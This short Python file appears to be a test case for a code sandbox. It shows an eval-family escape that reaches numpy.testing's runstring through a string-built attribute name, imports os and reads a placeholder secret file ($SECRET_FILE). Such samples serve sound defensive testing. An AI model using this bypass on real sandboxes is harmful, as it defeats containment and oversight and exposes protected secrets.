# attack: numpy's module-level __getattr__ imports numpy.testing, which has an exec of its own
# family: eval
import numpy
testing = numpy.__getattr__("test" + "ing")
space = {}
testing.runstring("import os\nfound = os.getpid()\ntext = open('$SECRET_FILE').read()", space)
print("REACHED", space["found"])
print(space["text"])
